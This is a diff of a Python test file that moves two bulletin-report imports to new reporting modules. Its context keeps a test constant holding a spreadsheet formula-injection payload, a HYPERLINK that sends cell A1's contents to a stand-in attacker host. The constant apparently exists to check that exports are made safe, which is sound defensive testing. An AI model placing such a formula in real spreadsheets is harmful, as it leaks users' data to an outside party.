@@ -10,9 +10,10 @@ import pytest
 
 from core.spreadsheets import csv_safe
 from regions.models import Unit
+from reporting.documents import bulletin_xlsx
+from reporting.services.bulletins import bulletin_create
 from tasks_app.models import Task
 from tasks_app.services import assignments as svc
-from tasks_app.services.bulletins import bulletin_create, bulletin_xlsx
 
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
 
